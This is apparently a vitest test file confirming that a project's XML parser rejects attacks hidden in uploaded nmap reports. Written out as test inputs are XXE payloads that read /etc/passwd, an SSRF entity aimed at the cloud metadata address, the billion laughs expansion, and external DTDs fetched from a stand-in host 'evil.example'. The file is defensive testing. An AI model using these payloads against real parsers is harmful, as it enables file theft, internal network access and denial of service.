import { describe, expect, it } from 'vitest';
import { isAppError } from '../../shared/app-error.ts';
import { parseNmapReport } from './nmap-report.ts';
import { parseXml } from './safe-xml.ts';

/**
 * Threat: XML external entities and entity expansion in uploaded reports (an nmap report or a property list is
 * attacker-shaped input). The parser reads no DTD, so none of these may read a file, reach the network or expand.
 */
function refused(text: string, doctype: 'refuse' | 'name-only' | 'external-id' = 'name-only'): string {
  try {
    parseXml(text, { doctype, what: 'report' });
  } catch (error) {
    if (isAppError(error)) return error.message;
    throw error;
  }
  throw new Error('expected the document to be refused');
}

describe('XXE and entity expansion are refused', () => {
  it('refuses an external entity that reads a local file', () => {
    const xxe =
      '<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><nmaprun>&xxe;</nmaprun>';
    expect(refused(xxe)).toMatch(/internal DTD subset is refused/);
    expect(() => parseNmapReport(xxe)).toThrow(/internal DTD subset is refused/);
  });

  it('refuses an external entity that reaches the network (SSRF)', () => {
    expect(refused('<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>')).toMatch(
      /internal DTD subset/,
    );
  });

  it('refuses the billion laughs expansion', () => {
    const lol =
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>';
    expect(refused(lol)).toMatch(/internal DTD subset/);
  });

  it('refuses parameter entities and an external DTD (out-of-band exfiltration)', () => {
    expect(refused('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>')).toMatch(
      /internal DTD subset/,
    );
    expect(refused('<!DOCTYPE nmaprun SYSTEM "http://evil.example/x.dtd"><nmaprun/>')).toMatch(
      /external DTD reference is refused/,
    );
  });

  it('refuses a reference to an entity that no DTD declared, rather than leaving it or expanding it', () => {
    expect(refused('<!DOCTYPE r><r a="&xxe;"/>')).toMatch(/"&xxe;" is refused/);
    expect(refused('<r>&ent;</r>')).toMatch(/"&ent;" is refused/);
  });

  it('refuses a document type declaration where none is expected, and declarations inside the document', () => {
    expect(refused('<!DOCTYPE r><r/>', 'refuse')).toMatch(/document type declaration is refused/);
    expect(refused('<r><!ENTITY x "y"></r>')).toMatch(/declaration inside the document is refused/);
    expect(refused('<r/><!DOCTYPE r>')).toMatch(/only allowed before the root/);
    expect(refused('<!DOCTYPE r><!DOCTYPE r><r/>')).toMatch(/only allowed before the root/);
  });

  it('accepts a property list doctype by its public identifier, which is never fetched', () => {
    const plist =
      '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" ' +
      '"http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>';
    expect(parseXml(plist, { doctype: 'external-id' }).name).toBe('plist');
  });

  it('refuses character references to characters XML forbids', () => {
    expect(refused('<r>&#0;</r>')).toMatch(/not a legal character reference/);
    expect(refused('<r>&#xD800;</r>')).toMatch(/not a legal character reference/);
  });
});
